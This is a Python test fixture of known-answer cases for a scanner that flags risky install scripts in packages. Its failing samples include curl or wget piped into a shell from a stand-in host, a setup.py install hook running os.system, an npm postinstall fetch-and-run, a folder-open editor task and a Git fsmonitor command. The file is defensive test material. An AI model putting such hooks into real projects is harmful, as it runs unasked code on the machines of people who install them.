"""Known answers for `artifact.install-scripts`. Nothing in them is ever run."""

from seatrial.testing.case import Case

_SETUP = b"""from setuptools import setup
from setuptools.command.install import install
import os


class Post(install):
    def run(self):
        install.run(self)
        os.system('id > /tmp/x')


setup(name='x', cmdclass={'install': Post})
"""
_PLAIN_SETUP = b"""from pathlib import Path
from setuptools import find_packages, setup

setup(name='x', version='1', packages=find_packages(), long_description=Path('README.md').read_text())
"""
_SCRIPT = b"""#!/bin/bash
set -e
pip install -r requirements.txt
# curl https://example.invalid | sh
huggingface-cli download org/model --local-dir ./model
wget https://huggingface.co/org/model/resolve/main/model.safetensors -O model.safetensors
python convert.py "$1"
"""
_ENVIRONMENT = b"""name: x
channels:
  - conda-forge
dependencies:
  - python=3.10
  - pip:
    - torch
"""

CASES: tuple[Case, ...] = (
    Case(
        name="a script fetches a program into a shell",
        files={"install.sh": b"#!/bin/sh\ncurl -fsSL https://example.invalid/x | sudo bash -s --\n"},
        expect=("fail: fetches a program and runs it",),
    ),
    Case(
        name="a script fetches a program and runs it two lines later",
        files={"run": b"#!/bin/sh\nwget -q https://example.invalid/agent -O /tmp/a\nchmod +x /tmp/a\n/tmp/a &\n"},
        expect=("fail: fetches a program and runs it",),
    ),
    Case(
        name="requirements from an address without encryption",
        files={
            "requirements.txt": b"torch\n--extra-index-url http://192.0.2.7/simple\nx @ git+https://github.com/x/y\n"
        },
        expect=(
            "fail: takes packages from another index that anybody on the way can change",
            "review: installs from an address: x @ git+https://github.com/x/y in line 3",
        ),
    ),
    Case(
        name="a command class runs a program on installation",
        files={"setup.py": _SETUP},
        expect=("fail: starts a program while it is installed: os.system('id > /tmp/x')",),
    ),
    Case(
        name="runs whenever Python starts",
        files={"x.pth": b"import os; os.getcwd()\n", "sitecustomize.py": b"import os\n"},
        expect=("fail: is run whenever Python starts: import os", "fail: is run whenever Python starts, without"),
    ),
    Case(
        name="a hook of a package manager",
        files={"package.json": b'{"name": "x", "scripts": {"postinstall": "curl https://example.invalid/a | sh"}}'},
        expect=("fail: the script postinstall fetches a program and runs it",),
    ),
    Case(
        name="an editor runs a task when it opens the folder",
        files={".vscode/tasks.json": b'{"tasks": [{"command": "id", "runOptions": {"runOn": "folderOpen"}}]}'},
        expect=("fail: runs a command as soon as an editor opens the folder",),
    ),
    Case(
        name="Git runs a program",
        files={
            ".git/config": b'[core]\n\tfsmonitor = touch /tmp/x\n[remote "o"]\n\turl = https://example.invalid/x\n',
            ".git/hooks/post-checkout": b"#!/bin/sh\nid\n",
        },
        expect=("fail: has Git run a program: core.fsmonitor = touch /tmp/x", "fail: is run by Git without anybody"),
    ),
    Case(
        name="an ordinary package",
        files={
            "requirements.txt": b"torch>=2.0\ntransformers==4.40.0 # fast\n"
            b"--extra-index-url https://download.pytorch.org/whl/cu121\n",
            "setup.py": _PLAIN_SETUP,
            "pyproject.toml": b'[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n',
            "environment.yml": _ENVIRONMENT,
        },
        good=True,
    ),
    Case(
        name="an ordinary download script",
        files={"download.sh": _SCRIPT, "Makefile": b"all:\n\tpython train.py\nclean:\n\trm -rf build/\n"},
        good=True,
    ),
    Case(
        name="what Git keeps of an ordinary clone",
        files={
            ".git/config": b"[core]\n\tbare = false\n"
            b'[filter "lfs"]\n\tclean = git-lfs clean -- %f\n\trequired = true\n',
            ".git/hooks/pre-commit.sample": b"#!/bin/sh\nid\n",
            ".gitattributes": b"*.bin filter=lfs diff=lfs merge=lfs -text\n",
        },
        good=True,
    ),
)
